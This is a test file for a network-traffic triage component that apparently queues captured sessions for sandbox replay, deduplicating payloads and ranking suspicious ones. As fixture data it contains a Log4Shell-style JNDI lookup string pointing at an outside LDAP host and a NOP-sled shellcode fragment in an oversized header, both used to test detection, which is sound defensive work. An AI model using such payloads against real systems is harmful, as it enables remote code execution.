import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { defaultCatalogue } from '../../src/sandbox/index.ts';
import { ProtectedNetworks, Triage } from '../../src/triage/index.ts';
import { httpRequest, smb1Message, testSession } from './triage-sessions.ts';

const catalogue = defaultCatalogue();
const privateOnly = () => new Triage({ catalogue, protectedNetworks: ProtectedNetworks.privateRanges() });

describe('Triage.offer', () => {
  it('skips by reason and counts each: not protected, no client payload, no profile service', () => {
    const triage = privateOnly();
    assert.deepEqual(triage.offer(testSession({ server: '8.8.8.8', serverPort: 80, turns: [['to_server', httpRequest('/', {})]] })), { action: 'skipped', reason: 'not_protected' });
    assert.deepEqual(triage.offer(testSession({ serverPort: 80, turns: [] })), { action: 'skipped', reason: 'no_client_payload' });
    assert.deepEqual(triage.offer(testSession({ serverPort: 80, turns: [['to_client', 'HTTP/1.1 200 OK\r\n\r\n']] })), { action: 'skipped', reason: 'no_client_payload' });
    assert.deepEqual(triage.offer(testSession({ serverPort: 31337, turns: [['to_server', Buffer.from([1, 2, 3])]] })), { action: 'skipped', reason: 'no_profile_service' });
    const stats = triage.stats();
    assert.equal(stats['triage.skipped.not_protected'], 1);
    assert.equal(stats['triage.skipped.no_client_payload'], 2);
    assert.equal(stats['triage.skipped.no_profile_service'], 1);
  });

  it('identical payloads from two senders: one job, both senders attached', () => {
    const triage = privateOnly();
    const request = (client: string) => testSession({ client, serverPort: 8080, turns: [['to_server', httpRequest('/', { Host: '10.0.0.10:8080', 'User-Agent': '${jndi:ldap://198.51.100.1/a}' })]] });
    const first = triage.offer(request('10.1.1.1'));
    const second = triage.offer(request('10.2.2.2'));
    assert.equal(first.action, 'queued');
    assert.equal(second.action, 'attached');
    const job = triage.next()!;
    assert.deepEqual(job.senders.map((sender) => sender.ip), ['10.1.1.1', '10.2.2.2']);
    assert.equal(triage.next(), undefined);
    assert.ok(job.reasons.injectionMarkers.includes('jndi_lookup'));
  });

  it('a copy aimed at a host with other profiles gets a job for only the profiles not yet covered', () => {
    const triage = privateOnly();
    const request = (server: string, serverTtl: number) => testSession({ server, serverTtl, serverPort: 80, turns: [['to_server', httpRequest('/x', {})]] });
    const windows = triage.offer(request('10.0.0.20', 120));
    assert.equal(windows.action, 'queued');
    triage.next();
    const linux = triage.offer(request('10.0.0.21', 60));
    assert.equal(linux.action, 'queued');
    const windowsIds = windows.action === 'queued' ? windows.job.profileIds : [];
    const linuxIds = linux.action === 'queued' ? linux.job.profileIds : [];
    assert.ok(windowsIds.every((id) => id.startsWith('win-')));
    assert.ok(linuxIds.length > 0 && linuxIds.every((id) => !windowsIds.includes(id)));
    assert.equal(triage.offer(request('10.0.0.22', 121)).action, 'attached');
  });

  it('ranks attacker code and oversize fields above plain requests; next() pops the highest', () => {
    const triage = privateOnly();
    triage.offer(testSession({ serverPort: 80, turns: [['to_server', httpRequest('/plain', {})]] }));
    const code = Buffer.concat([Buffer.alloc(64, 0x90), Buffer.from('e8000000005d64a1300000008b400c8b701c', 'hex')]).toString('latin1');
    triage.offer(testSession({ serverPort: 80, turns: [['to_server', httpRequest('/', { Authorization: 'Basic ' + 'A'.repeat(3000) + code })]] }));
    const top = triage.next()!;
    assert.ok(top.reasons.shellcodeScore > 0);
    assert.ok(top.reasons.oversizeFields.some((field) => field.field === 'http.header.authorization'));
    assert.ok(top.priority > triage.next()!.priority);
  });

  it('a scanning source ranks higher', () => {
    const triage = new Triage({ catalogue, protectedNetworks: ProtectedNetworks.privateRanges(), config: { scanThresholdTargets: 5 } });
    for (let host = 1; host <= 5; host++) triage.offer(testSession({ client: '10.9.9.9', server: `10.0.1.${host}`, serverPort: 445, turns: [] }));
    const decision = triage.offer(testSession({ client: '10.9.9.9', server: '10.0.1.6', serverPort: 445, turns: [['to_server', smb1Message(0x72, { pid: 1, uid: 0, mid: 1, tid: 0 })]] }));
    assert.equal(decision.action === 'queued' && decision.job.reasons.scanningSource, true);
  });

  it('queue overflow is counted and the dropped jobs can be read', () => {
    const triage = new Triage({ catalogue, protectedNetworks: ProtectedNetworks.privateRanges(), config: { queueCapacity: 2 } });
    for (let index = 0; index < 4; index++) triage.offer(testSession({ serverPort: 80, turns: [['to_server', httpRequest(`/${index}`, {})]] }));
    assert.equal(triage.queued, 2);
    assert.equal(triage.stats()['triage.queue.overflow_dropped'], 2);
    assert.equal(triage.takeDropped().length, 2);
    // a dropped payload was forgotten by dedupe, so its next copy gets another chance
    assert.notEqual(triage.offer(testSession({ serverPort: 80, turns: [['to_server', httpRequest('/3', {})]] })).action, 'attached');
  });

  it('target facts narrow the profiles: the HTTP Server header picks the Apache-on-Windows profile', () => {
    const triage = privateOnly();
    const decision = triage.offer(testSession({ serverPort: 80, turns: [['to_server', httpRequest('/', {})], ['to_client', 'HTTP/1.1 200 OK\r\nServer: Apache/2.2.4 (Win32) PHP/5.2.1\r\n\r\n']] }));
    assert.equal(decision.action, 'queued');
    assert.deepEqual(decision.action === 'queued' && decision.job.profileIds, ['win-2003-sp2-apache-2.2']);
    assert.deepEqual(decision.action === 'queued' && decision.job.factsUsed, ['ttl', 'httpServer']);
  });

  it('an extra fact from the caller (the SYN/ACK window) narrows too; with nothing known, every profile offering the kind', () => {
    const triage = privateOnly();
    const smb = (id: number) => testSession({ id, serverPort: 445, turns: [['to_server', smb1Message(0x72, { pid: id, uid: 0, mid: 1, tid: 0 }, Buffer.from([0, 1, 0, id]))]] });
    const narrowed = triage.offer(smb(1), { tcpWindow: 8192 });
    assert.ok(narrowed.action === 'queued' && narrowed.job.profileIds.every((id) => /vista|2008|win-7/.test(id)));
    const unknownTtl = { ...smb(2), server: { ...smb(2).server, ttl: -1 } };
    const everything = triage.offer(unknownTtl);
    const offering = catalogue.list().filter((profile) => profile.services.some((service) => service.name === 'microsoft-ds'));
    assert.equal(everything.action === 'queued' && everything.job.profileIds.length, offering.length);
  });

  it('never throws on odd sessions', () => {
    const triage = privateOnly();
    const odd = testSession({ serverPort: 445, turns: [['to_server', Buffer.from([0, 0, 0, 0x40, 0xfe, 0x53, 0x4d, 0x42])], ['to_client', Buffer.from([0, 0, 0, 0x40, 0xfe, 0x53, 0x4d, 0x42, 0])]] });
    assert.doesNotThrow(() => triage.offer(odd));
    assert.doesNotThrow(() => triage.offer({ ...odd, server: { ...odd.server, ip: '' }, turns: [{ direction: 'to_server', seconds: 0, nanoseconds: 0, data: Buffer.alloc(0) }] }));
  });
});
